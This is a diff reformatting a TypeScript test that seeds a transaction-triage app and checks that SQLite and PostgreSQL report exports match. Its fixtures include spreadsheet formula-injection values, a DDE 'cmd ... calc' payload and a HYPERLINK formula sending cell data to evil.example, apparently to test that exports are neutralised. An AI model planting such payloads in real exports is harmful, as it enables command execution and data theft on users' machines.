@@ -68,9 +68,21 @@ function transactions(tag: string, spec: Import): string {
   for (let i = 1; i <= spec.rows; i++) {
     const delayMin = i % 4 ? (i * 13) % 12 : (i * 7919) % 2880 // every fourth waits up to 48 h: breaches in every severity
     const created = new Date(at - delayMin * 60_000 - (i % 60) * 1000).toISOString()
-    const branch = i === 7 ? 'nul \u0000 inside' : i === 8 ? 'escape \uffff0 and \uffff' : i === 9 ? '+cmd|\' /C calc\'!A0' : i % 3 ? 'London' : 'Zurich, CH'
+    const branch = i === 7 ? 'nul \u0000 inside' : i === 8 ? 'escape \uffff0 and \uffff' : i === 9 ? "+cmd|' /C calc'!A0" : i % 3 ? 'London' : 'Zurich, CH'
     const txn = i === 10 ? '=HYPERLINK("http://evil.example/?x="&A1,"click")' : `T${tag}${String(i).padStart(5, '0')}`
-    lines.push([cell(txn), `C${(i * 31) % 997}`, ((i * 1237) % 90_000).toFixed(2), 'USD', COUNTRIES[i % 8]!, TYPES[i % 5]!, String((i * 37) % 101), created, cell(branch)].join(','))
+    lines.push(
+      [
+        cell(txn),
+        `C${(i * 31) % 997}`,
+        ((i * 1237) % 90_000).toFixed(2),
+        'USD',
+        COUNTRIES[i % 8]!,
+        TYPES[i % 5]!,
+        String((i * 37) % 101),
+        created,
+        cell(branch)
+      ].join(',')
+    )
   }
   for (let i = 1; i <= (spec.duplicates ?? 0); i++) lines.push(lines[i]!)
   for (let i = 1; i <= (spec.bad ?? 0); i++) lines.push(`B${tag}${i},C1,12O${i}.00,USD,GB,wire,10,${spec.at},London`)
@@ -118,8 +130,13 @@ const RULES: Record<'default' | 'extended', RuleSet> = {
 /** One import into a store at its time (only Date is faked, and it stands still), governed by the trail's silences as the app's runs are. */
 async function runImport(store: TriageStore, spec: Import, files: string[], governance?: GovernanceStore) {
   vi.setSystemTime(new Date(spec.at))
-  const silences = governance ? (await governedRun(governance, { settings: defaultSettings(), baseDir: ROOT, source: 'test' }, Date.parse(spec.at))).silences : []
-  const r = await executeRun({ store, settings: defaultSettings(), ruleSet: RULES[spec.rules ?? 'default'], silences, trigger: 'test', parallel: 'never' }, explicitFiles(files))
+  const silences = governance
+    ? (await governedRun(governance, { settings: defaultSettings(), baseDir: ROOT, source: 'test' }, Date.parse(spec.at))).silences
+    : []
+  const r = await executeRun(
+    { store, settings: defaultSettings(), ruleSet: RULES[spec.rules ?? 'default'], silences, trigger: 'test', parallel: 'never' },
+    explicitFiles(files)
+  )
   if (r.status !== 'ok') throw new Error(`import at ${spec.at} failed: ${r.errors.join('; ')}`)
   return r
 }
@@ -139,24 +156,42 @@ async function resolutions(store: TriageStore, ids: { amount: number; other: num
 type Exec = (text: string, values: unknown[]) => Promise<void>
 async function deliveryOutcomes(exec: Exec, deliveries: Array<{ entry_id: number; destination: string }>) {
   const attempt = (id: number, d: string, n: number, result: string, error: string | null) =>
-    exec(`INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error, http_status)
-      VALUES ($1, $2, $3, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', $4, $5, $6)`, [id, d, n, result, error, result === 'sent' ? 200 : null])
+    exec(
+      `INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error, http_status)
+      VALUES ($1, $2, $3, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', $4, $5, $6)`,
+      [id, d, n, result, error, result === 'sent' ? 200 : null]
+    )
   const set = (id: number, d: string, status: string, attempts: number, error: string | null) =>
-    exec('UPDATE deliveries SET status = $1, attempts = $2, last_error = $3, updated_at = $4 WHERE entry_id = $5 AND destination = $6',
-      [status, attempts, error, '2026-11-05T10:00:01.000Z', id, d])
+    exec('UPDATE deliveries SET status = $1, attempts = $2, last_error = $3, updated_at = $4 WHERE entry_id = $5 AND destination = $6', [
+      status,
+      attempts,
+      error,
+      '2026-11-05T10:00:01.000Z',
+      id,
+      d
+    ])
   for (const [i, r] of deliveries.entries()) {
     if (i % 11 === 0 && r.destination.startsWith('slack:')) {
       for (let a = 1; a <= 3; a++) await attempt(r.entry_id, r.destination, a, a === 3 ? 'dead' : 'retry', 'HTTP 500')
       await set(r.entry_id, r.destination, 'dead', 3, 'HTTP 500 \u0000 body')
-      await exec(`INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
-        VALUES ($1, $2, 'email', 'email:compliance-leads', 'Slack webhook kept failing (HTTP 500)', '2026-11-05T10:30:00.000Z')`, [r.entry_id, r.destination])
+      await exec(
+        `INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
+        VALUES ($1, $2, 'email', 'email:compliance-leads', 'Slack webhook kept failing (HTTP 500)', '2026-11-05T10:30:00.000Z')`,
+        [r.entry_id, r.destination]
+      )
     } else if (i % 13 === 0) {
       await attempt(r.entry_id, r.destination, 1, 'uncertain', 'timed out after the request was sent')
       await set(r.entry_id, r.destination, 'uncertain', 1, 'timed out')
-      await exec(`INSERT INTO delivery_notices (created_at, kind, severity, title, detail, destination, entry_ids)
-        VALUES ('2026-11-05T11:00:00.000Z', 'uncertain', 'high', 'A delivery may not have arrived', 'Check the peer', $1, $2)`, [r.destination, `[${r.entry_id}]`])
-      await exec(`INSERT INTO delivery_resolutions (entry_id, destination, decision, decided_by, decided_at)
-        VALUES ($1, $2, 'confirmed_sent', 'officer', '2026-11-05T12:00:00.000Z')`, [r.entry_id, r.destination])
+      await exec(
+        `INSERT INTO delivery_notices (created_at, kind, severity, title, detail, destination, entry_ids)
+        VALUES ('2026-11-05T11:00:00.000Z', 'uncertain', 'high', 'A delivery may not have arrived', 'Check the peer', $1, $2)`,
+        [r.destination, `[${r.entry_id}]`]
+      )
+      await exec(
+        `INSERT INTO delivery_resolutions (entry_id, destination, decision, decided_by, decided_at)
+        VALUES ($1, $2, 'confirmed_sent', 'officer', '2026-11-05T12:00:00.000Z')`,
+        [r.entry_id, r.destination]
+      )
     } else if (i % 7 === 0) {
       await attempt(r.entry_id, r.destination, 1, 'retry', 'connection refused')
       await set(r.entry_id, r.destination, 'failed', 1, 'connection refused')
@@ -205,18 +240,55 @@ async function caseWork(cases: CaseStore, alerts: Array<{ id: number; severity: 
  * backtested (hand-made figures), approved by another officer and activated before the import that uses it.
  */
 const GOVERNANCE: Array<{ at: string; step: (desk: GovernanceDesk, ids: Map<string, number>) => Promise<unknown> }> = [
-  { at: '2026-11-01T12:00:00.000Z', step: async (d, ids) => ids.set('zurich', (await d.addSilence({ matches: [{ field: 'extra.branch', value: 'zurich, ch' }], until: '2026-11-04T00:00:00.000Z', reason: 'Zurich re-keying \uffff0 feed' }, 'alice')).id) },
-  { at: '2026-11-01T12:05:00.000Z', step: async (d, ids) => ids.set('ir', (await d.addSilence({ matches: [{ field: 'country', value: 'IR' }], until: '2026-11-20T00:00:00.000Z', reason: 'IR desk moved, "quoted"', include_critical: true }, '=cmd|x')).id) },
+  {
+    at: '2026-11-01T12:00:00.000Z',
+    step: async (d, ids) =>
+      ids.set(
+        'zurich',
+        (
+          await d.addSilence(
+            { matches: [{ field: 'extra.branch', value: 'zurich, ch' }], until: '2026-11-04T00:00:00.000Z', reason: 'Zurich re-keying \uffff0 feed' },
+            'alice'
+          )
+        ).id
+      )
+  },
+  {
+    at: '2026-11-01T12:05:00.000Z',
+    step: async (d, ids) =>
+      ids.set(
+        'ir',
+        (
+          await d.addSilence(
+            { matches: [{ field: 'country', value: 'IR' }], until: '2026-11-20T00:00:00.000Z', reason: 'IR desk moved, "quoted"', include_critical: true },
+            '=cmd|x'
+          )
+        ).id
+      )
+  },
   { at: '2026-11-01T12:10:00.000Z', step: (d, ids) => d.approveSilence(ids.get('ir')!, 'bob') },
   { at: '2026-11-02T08:00:00.000Z', step: (d) => d.draft(RULES.extended.source, RULES.extended.path, 'alice') },
   { at: '2026-11-03T13:00:00.000Z', step: (d, ids) => d.expireSilence(ids.get('ir')!, 'desk back', 'bob') },
   {
     at: '2026-11-05T20:00:00.000Z',
     step: (d) =>
-      d.recordBacktest(RULES.extended, null, { from: '2026-10-06T20:00:00.000Z', to: '2026-11-05T20:00:00.000Z' }, {
-        alerts: 300, changed: 12, by_severity_before: { critical: 20, high: 80, medium: 100, low: 100 }, by_severity_after: { critical: 22, high: 90, medium: 92, low: 96 },
-        transitions: { 'low>medium': 4 }, deliveries_before: { 'email:archive': 100 }, deliveries_after: { 'email:archive': 96 }, changed_ids: [1, 2], agreement: {}
-      }, 'alice')
+      d.recordBacktest(
+        RULES.extended,
+        null,
+        { from: '2026-10-06T20:00:00.000Z', to: '2026-11-05T20:00:00.000Z' },
+        {
+          alerts: 300,
+          changed: 12,
+          by_severity_before: { critical: 20, high: 80, medium: 100, low: 100 },
+          by_severity_after: { critical: 22, high: 90, medium: 92, low: 96 },
+          transitions: { 'low>medium': 4 },
+          deliveries_before: { 'email:archive': 100 },
+          deliveries_after: { 'email:archive': 96 },
+          changed_ids: [1, 2],
+          agreement: {}
+        },
+        'alice'
+      )
   },
   { at: '2026-11-05T21:00:00.000Z', step: (d) => d.approve(RULES.extended.version, 'broader coverage, reviewed', 'bob') },
   { at: '2026-11-05T22:00:00.000Z', step: (d) => d.activate(RULES.extended.version, 'November change window', 'carol') }
@@ -271,22 +343,32 @@ describe.skipIf(unavailable !== null)('PostgreSQL report queries', () => {
       }
       expect(step).toBe(GOVERNANCE.length)
       expect(silenceIds[1]).toEqual(silenceIds[0])
-      const ids = lite.db.prepare("SELECT (SELECT min(id) FROM quarantine WHERE field = 'amount') amount, (SELECT min(id) FROM quarantine WHERE field IS NOT 'amount') other").get() as { amount: number; other: number }
+      const ids = lite.db
+        .prepare("SELECT (SELECT min(id) FROM quarantine WHERE field = 'amount') amount, (SELECT min(id) FROM quarantine WHERE field IS NOT 'amount') other")
+        .get() as { amount: number; other: number }
       await resolutions(lite, ids)
       await resolutions(pgStore, ids)
     } finally {
       vi.useRealTimers()
     }
-    const deliveries = lite.db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{ entry_id: number; destination: string }>
+    const deliveries = lite.db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{
+      entry_id: number
+      destination: string
+    }>
     lite.db.exec('BEGIN')
     await deliveryOutcomes(async (text, values) => {
       lite.db.prepare(text.replace(/\$\d+/g, '?')).run(...values)
     }, deliveries)
     lite.db.exec('COMMIT')
     await deliveryOutcomes(async (text, values) => {
-      await pgStore.pool.query(text, values.map((v) => (typeof v === 'string' ? toPg(v) : v)))
+      await pgStore.pool.query(
+        text,
+        values.map((v) => (typeof v === 'string' ? toPg(v) : v))
+      )
     }, deliveries)
-    const inPeriod = lite.db.prepare('SELECT id, severity FROM audit_entries WHERE triaged_at >= ? AND triaged_at < ? ORDER BY id LIMIT 7').all(PERIOD.from, PERIOD.to) as Array<{ id: number; severity: string }>
+    const inPeriod = lite.db
+      .prepare('SELECT id, severity FROM audit_entries WHERE triaged_at >= ? AND triaged_at < ? ORDER BY id LIMIT 7')
+      .all(PERIOD.from, PERIOD.to) as Array<{ id: number; severity: string }>
     await caseWork(new SqliteCaseStore(lite.db), inPeriod)
     await caseWork(new PostgresCaseStore(pgStore.pool, 'test'), inPeriod)
     liteReports = await new SqliteTrail(lite).openReports()
@@ -356,7 +438,11 @@ describe.skipIf(unavailable !== null)('PostgreSQL report queries', () => {
 
   it('exports the same report: CSV and JSON byte for byte, the PDF with the same text', async () => {
     const out = tempDir('triage-pg-report-')
-    for (const [ext, opts] of [['csv', { format: 'csv', bom: true }], ['json', { format: 'json' }], ['pdf', { format: 'pdf', appendix: true }]] as const) {
+    for (const [ext, opts] of [
+      ['csv', { format: 'csv', bom: true }],
+      ['json', { format: 'json' }],
+      ['pdf', { format: 'pdf', appendix: true }]
+    ] as const) {
       const a = await exportReport(liteReports.queries, PERIOD, join(out, `sqlite.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
       const b = await exportReport(pgReports.queries, PERIOD, join(out, `pg.${ext}`), { organisation: 'Example Bank plc', now: NOW, ...opts })
       if (ext === 'pdf') {
@@ -398,7 +484,10 @@ describe.skipIf(unavailable !== null)('PostgreSQL report queries', () => {
     expect(differ(fa, filesOf(c.dir))).toEqual(['manifest.json', 'report.pdf'])
     expect(pdfText(join(c.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
     expect(pdfText(join(b.dir, 'report.pdf'))).toBe(pdfText(join(a.dir, 'report.pdf')))
-    const strip = (m: PackResult['manifest']) => ({ ...m, files: m.files.map((f) => (f.path === 'report.pdf' ? { path: f.path, description: f.description } : f)) })
+    const strip = (m: PackResult['manifest']) => ({
+      ...m,
+      files: m.files.map((f) => (f.path === 'report.pdf' ? { path: f.path, description: f.description } : f))
+    })
     expect(strip(b.manifest)).toEqual(strip(a.manifest))
     expect(b.manifest.files.find((f) => f.path === 'audit-entries.csv')!.rows).toBeGreaterThan(200)
     expect(fb.get('quarantine-resolutions.csv')!.toString('utf8')).toContain('officer \u0000')
